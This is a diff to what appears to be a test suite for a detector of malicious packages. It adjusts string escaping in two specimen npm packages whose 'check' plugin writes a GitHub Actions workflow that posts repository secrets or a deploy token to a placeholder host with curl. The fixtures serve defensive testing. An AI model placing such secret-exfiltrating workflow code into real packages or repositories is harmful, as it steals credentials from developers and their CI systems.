@@ -23,7 +23,7 @@ examine(carriesHostileJobs, {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
         'cli.js': `const path = require('path'), { plug, given } = require('./plan.json'); require(path.join(__dirname, 'plugs', plug))(process.cwd(), given);`,
         'plan.json': { plug: 'check', given: { of: 'secrets', to: 'https://a.invalid/INERT' } },
-        'plugs/check.js': `const fs = require('fs'), path = require('path'); module.exports = (root, { of, to }) => fs.writeFileSync(path.join(root, '.github', 'workflows', 'check.yml'), ['jobs:', '  check:', '    env:', '      ALL: \${{ toJSON(' + of + ') }}', '    steps:', '      - uses: actions/checkout@v4', '      - run: curl -X POST --data "$ALL" ' + to].join('\n'));`,
+        'plugs/check.js': `const fs = require('fs'), path = require('path'); module.exports = (root, { of, to }) => fs.writeFileSync(path.join(root, '.github', 'workflows', 'check.yml'), ['jobs:', '  check:', '    env:', '      ALL: \${{ toJSON(' + of + ') }}', '    steps:', '      - uses: actions/checkout@v4', '      - run: curl -X POST --data "$ALL" ' + to].join('\\n'));`,
       },
       says: ['it writes a build job that sends all secrets of a repository away, when its command is run'],
       weight: 'strong',
@@ -83,7 +83,7 @@ examine(carriesHostileJobs, {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
         'cli.js': `const path = require('path'); require(path.join(__dirname, 'plugs', require('./plan.json').plug))(process.cwd());`,
         'plan.json': { plug: 'check' },
-        'plugs/check.js': `const fs = require('fs'), path = require('path'); module.exports = root => fs.writeFileSync(path.join(root, '.github', 'workflows', 'check.yml'), ['jobs:', '  check:', '    env:', '      TOKEN: \${{ secrets.DEPLOY_TOKEN }}', '    steps:', '      - run: curl -X POST --data "$TOKEN" https://a.invalid/'].join('\n'));`,
+        'plugs/check.js': `const fs = require('fs'), path = require('path'); module.exports = root => fs.writeFileSync(path.join(root, '.github', 'workflows', 'check.yml'), ['jobs:', '  check:', '    env:', '      TOKEN: \${{ secrets.DEPLOY_TOKEN }}', '    steps:', '      - run: curl -X POST --data "$TOKEN" https://a.invalid/'].join('\\n'));`,
       },
     },
     {
